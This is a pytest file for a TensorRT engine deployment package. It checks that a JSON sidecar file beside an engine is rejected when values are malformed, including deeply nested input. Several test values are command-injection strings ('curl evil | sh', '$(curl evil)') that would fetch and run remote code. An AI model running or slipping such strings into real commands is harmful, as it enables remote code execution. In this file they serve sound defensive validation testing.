"""What is read beside an engine is checked: an engine that another hand described does not reach the runtime."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from fuzzing.seeds import sidecars

from amsr_deploy.errors import EngineError
from amsr_deploy.runtime.backends.tensorrt.sidecar import Sidecar, read_sidecar


def read(folder: Path, values: dict[str, Any]) -> Sidecar:
    (folder / "a.engine").touch()
    (folder / "a.json").write_text(json.dumps(values))
    return read_sidecar(folder / "a.engine")


@pytest.fixture
def values() -> dict[str, Any]:
    return json.loads(sidecars()[0][1])  # type: ignore[no-any-return]


def test_a_whole_one(values: dict[str, Any], tmp_path: Path) -> None:
    assert read(tmp_path, values).largest == (1088, 1920)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("version", 1.7),
        ("edition", "zzz"),
        ("command", "curl evil | sh"),
        ("command", "amsr build-engine x.onnx; curl evil | sh"),
        ("command", "amsr build-engine $(curl evil)"),
        ("command", "amsr build-engine 'x.onnx"),
        ("command", ""),
        ("gpu", ["RTX"]),
        ("plugins", True),
        ("compute_capability", [8, float("inf")]),
        ("compute_capability", ["8", "6"]),
        ("compute_capability", [8]),
        ("compute_capability", {"8": 6}),
        ("profile", {"image": "wide"}),
        ("profile", {}),
        ("profile", {"image": [[1, 3, 8, 8], [1, 3, 9, 9]]}),
        ("profile", {"image": [[1, 3, 8, 8], [1, 3, 9, 9], [1, 3, 9, float("inf")]]}),
        ("profile", {"image": [[1, 3, 8, 8], [1, 3, 9, 9], [1, 3, 9, None]]}),
        ("profile", {"image": [[1, 3, 8, 8], [], [1, 3, 9, 9]]}),
        ("profile", []),
        ("model", None),
        ("model", {}),
    ],
)
def test_values_that_cannot_be(values: dict[str, Any], name: str, value: object, tmp_path: Path) -> None:
    with pytest.raises(EngineError, match=r"a\.json is not what `amsr build-engine` wrote"):
        read(tmp_path, {**values, name: value})


def test_what_other_versions_write_is_passed_over(values: dict[str, Any], tmp_path: Path) -> None:
    more = {**values, "carries_plugins": True, "model": {**values["model"], "other": [1]}}
    assert read(tmp_path, more) == read(tmp_path, values)


def test_nested_too_deeply(tmp_path: Path) -> None:
    (tmp_path / "a.engine").touch()
    (tmp_path / "a.json").write_text("[" * 100_000)
    with pytest.raises(EngineError, match="build the engine again"):
        read_sidecar(tmp_path / "a.engine")
